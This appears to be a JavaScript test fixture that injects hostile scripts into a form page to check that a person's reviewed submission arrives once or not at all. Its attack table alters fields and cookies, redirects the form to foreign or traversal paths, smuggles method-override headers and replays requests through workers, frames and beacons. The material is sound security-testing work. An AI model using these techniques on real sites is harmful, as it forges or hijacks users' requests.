// Attacks on the one request that a person releases, each inside the page that holds their form. Each must end in what
// they reviewed arriving once, or in nothing.
const form = () => document.forms[0];
const onPress = attack => addEventListener('pointerdown', attack, {capture: true, once: true});
const onSubmit = attack => addEventListener('submit', attack, {capture: true, once: true});
const instead = attack => onSubmit(event => { event.preventDefault(); attack(); });
const set = (name, value) => { form().elements[name].value = value; };
const hidden = (name, value) => Object.assign(form().appendChild(document.createElement('input')), {type: 'hidden', name, value});
const said = (changes = {}) => { const all = new URLSearchParams(new FormData(form())); Object.entries(changes).forEach(([name, value]) => all.set(name, value)); return all; };
const send = (changes = {}, options = {}, address = '/objection') =>
  fetch(address, {method: 'POST', body: said(changes), ...options}).catch(() => 0);
const coded = (address = 'https://site.test/objection') => `fetch('${address}', {method: 'POST', headers: {'Content-Type': ` +
  `'application/x-www-form-urlencoded;charset=UTF-8'}, body: '${said()}', mode: 'no-cors'}).catch(() => 0)`;
const inFrame = attributes => Object.assign(document.body.appendChild(document.createElement('iframe')), attributes);
const scripted = code => `<script>${code}</` + 'script>';
const working = code => new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
const copied = () => `<form method=post action=https://site.test/objection>${form().innerHTML}</form>` + scripted('document.forms[0].submit()');

const ATTACKS = {
  nothing: () => 0,
  // before the press, or without one
  fetches_at_once: () => send(),
  fetches_by_timer: () => { setInterval(send, 100); },
  submits_at_once: () => form().submit(),
  requests_submit: () => form().requestSubmit(),
  clicks_by_itself: () => form().querySelector('button').click(),
  pretends_a_press: () => { for (const kind of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) form().querySelector('button').dispatchEvent(new PointerEvent(kind, {bubbles: true})); },
  beacons_at_once: () => { navigator.sendBeacon('/objection', said()); },
  // what the form says
  another_reason: () => onPress(() => set('reason', 'I agree.')),
  reason_added_to: () => onPress(() => set('reason', 'I object. Not.')),
  reason_emptied: () => onPress(() => set('reason', '')),
  reason_spaced: () => onPress(() => set('reason', 'I object. ')),
  reason_disguised: () => onPress(() => set('reason', 'I оbject.')),
  reason_as_file: () => onPress(() => { form().elements.reason.remove(); const field = hidden('reason', ''); field.type = 'file'; const to = new DataTransfer(); to.items.add(new File(['I object.'], 'x')); field.files = to.files; form().enctype = 'multipart/form-data'; }),
  another_form: () => onPress(() => set('form', '8')),
  another_account: () => onPress(() => set('account', '1002')),
  another_token: () => onPress(() => set('token', 'Zx81kLm3')),
  words_in_token: () => onPress(() => set('token', 'delete everything')),
  field_more: () => onPress(() => hidden('agree', 'on')),
  field_empty: () => onPress(() => hidden('delete_account', '')),
  field_twice: () => onPress(() => hidden('reason', 'I object.')),
  field_as_list: () => onPress(() => hidden('reason[]', 'I agree.')),
  field_renamed: () => onPress(() => { form().elements.reason.name = 'delete_account'; }),
  field_spaced: () => onPress(() => hidden('form ', '8')),
  field_with_zero: () => onPress(() => hidden('form\0', '8')),
  field_in_other_case: () => onPress(() => hidden('ACCOUNT', '1002')),
  field_dropped: () => onPress(() => form().elements.account.remove()),
  field_of_method: () => onPress(() => hidden('_method', 'delete')),
  field_of_charset: () => onPress(() => hidden('_charset_', '')),
  field_of_button: () => onPress(() => { form().querySelector('button').name = 'all'; }),
  field_from_outside: () => onPress(() => { form().id = 'f'; document.body.append(Object.assign(document.createElement('input'), {name: 'agree', value: 'on'})); document.body.lastChild.setAttribute('form', 'f'); }),
  field_at_form_data: () => addEventListener('formdata', event => event.formData.append('agree', 'on')),
  value_at_form_data: () => addEventListener('formdata', event => event.formData.set('reason', 'I agree.')),
  order_changed: () => addEventListener('formdata', event => { event.formData.delete('account'); event.formData.append('account', '1002'); }),
  // where and how it goes
  another_action: () => onPress(() => { form().action = '/settings/save'; }),
  action_with_query: () => onPress(() => { form().action = '/objection?delete=1'; }),
  action_below: () => onPress(() => { form().action = '/objection/all'; }),
  action_up: () => onPress(() => { form().action = '/objection/%2e%2e/settings/save'; }),
  action_with_parameter: () => onPress(() => { form().action = '/objection;a=1'; }),
  action_slashed: () => onPress(() => { form().action = '//site.test//objection'; }),
  action_near: () => onPress(() => { form().action = 'https://near.site.test/objection'; }),
  action_away: () => onPress(() => { form().action = 'https://away.test/objection'; }),
  action_plain: () => onPress(() => { form().action = 'http://site.test/objection'; }),
  action_of_button: () => onPress(() => { form().querySelector('button').formAction = '/settings/save'; }),
  base_away: () => onPress(() => { document.head.insertAdjacentHTML('beforeend', '<base href=https://away.test/>'); }),
  method_get: () => onPress(() => { form().method = 'get'; form().action = '/logout.php'; }),
  in_parts: () => onPress(() => { form().enctype = 'multipart/form-data'; }),
  as_text: () => onPress(() => { form().enctype = 'text/plain'; }),
  in_utf16: () => onPress(() => { form().acceptCharset = 'utf-16'; set('reason', 'I object é'); }),
  into_frame: () => onPress(() => { inFrame({name: 'inner'}); form().target = 'inner'; }),
  into_popup: () => onPress(() => { form().target = '_blank'; }),
  form_exchanged: () => onPress(() => { const other = form().cloneNode(true); other.elements.form.value = '8'; form().replaceWith(other); }),
  other_form_sent: () => instead(() => { const other = document.body.appendChild(form().cloneNode(true)); other.elements.account.value = '1002'; other.submit(); }),
  // other ways to the same place
  fetch_instead: () => instead(() => send()),
  fetch_changed: () => instead(() => send({reason: 'I agree.'})),
  fetch_put: () => instead(() => send({}, {method: 'PUT'})),
  fetch_json: () => instead(() => send({}, {body: JSON.stringify(Object.fromEntries(said())), headers: {'Content-Type': 'application/json'}})),
  fetch_unseen: () => instead(() => send({}, {body: new Blob([said()], {type: 'application/x-www-form-urlencoded'})})),
  fetch_with_override: () => instead(() => send({}, {headers: {'X-HTTP-Method-Override': 'DELETE'}})),
  fetch_with_address: () => instead(() => send({}, {headers: {'X-Original-URL': '/settings/save'}})),
  fetch_redirected: () => instead(() => send({}, {}, '/read?status=307&then=' + encodeURIComponent('https://site.test/objection'))),
  fetch_redirected_on: () => instead(() => send({}, {}, '/read?status=308&then=' + encodeURIComponent('/read?status=307&then=/objection'))),
  fetch_without_cookies: () => instead(() => send({}, {credentials: 'omit'})),
  xhr_instead: () => instead(() => { const x = new XMLHttpRequest(); x.open('POST', '/objection'); x.send(said()); }),
  beacon_instead: () => instead(() => { navigator.sendBeacon('/objection', said()); }),
  keepalive_instead: () => instead(() => send({}, {keepalive: true})),
  worker_instead: () => instead(() => { working(coded()); }),
  frame_instead: () => instead(() => { new (inFrame({}).contentWindow.Function)(coded())(); }),
  srcdoc_instead: () => instead(() => { inFrame({srcdoc: copied()}); }),
  near_frame_instead: () => instead(() => { inFrame({src: 'https://near.site.test/echo?code=' + encodeURIComponent(coded())}); }),
  sandbox_instead: () => instead(() => { inFrame({sandbox: 'allow-scripts allow-forms', srcdoc: copied()}); }),
  popup_instead: () => instead(() => { const made = open('about:blank'); made.document.write(copied()); }),
  worker_beside: () => onPress(() => { working(coded()); }),
  many_beside: () => onPress(() => { for (let n = 0; n < 20; n++) send(); }),
  changed_beside: () => onPress(() => { for (let n = 0; n < 20; n++) send({reason: `I agree ${n}.`}); }),
  beacons_beside: () => onPress(() => { for (let n = 0; n < 20; n++) navigator.sendBeacon('/objection', said()); }),
  aborted_beside: () => onPress(() => { for (let n = 0; n < 20; n++) { const giving = new AbortController(); send({}, {signal: giving.signal}); setTimeout(() => giving.abort(), n); } }),
  aborted_and_socket: () => instead(() => { const giving = new AbortController(); send({}, {signal: giving.signal}); setTimeout(() => giving.abort(), 300); working("new WebSocket('wss://site.test/objection')"); }),
  twice: () => onSubmit(() => { form().submit(); form().submit(); }),
  again_after: () => onSubmit(() => { setInterval(() => send(), 50); }),
  again_as_it_goes: () => { const body = said(); addEventListener('pagehide', () => navigator.sendBeacon('/objection', body)); },
  // who it is from
  other_cookie: () => onPress(() => { document.cookie = 'who=1002; path=/; secure'; }),
  other_cookie_first: () => onPress(() => { document.cookie = 'who=1002; path=/objection; secure'; }),
  cookie_dropped: () => onPress(() => { document.cookie = 'who=; path=/; secure; max-age=0'; }),
  acting_cookie: () => onPress(() => { document.cookie = 'acts=61550; path=/; secure'; }),
  cookie_while_held: () => onSubmit(() => { setTimeout(() => { document.cookie = 'who=1002; path=/; secure'; }, 20); }),
  account_header: () => instead(() => send({}, {headers: {'X-Account': '1002'}})),
};
const attack = ATTACKS[new URLSearchParams(location.search).get('attack') ?? 'nothing'];
addEventListener('load', () => { window.tried = true; attack(); });
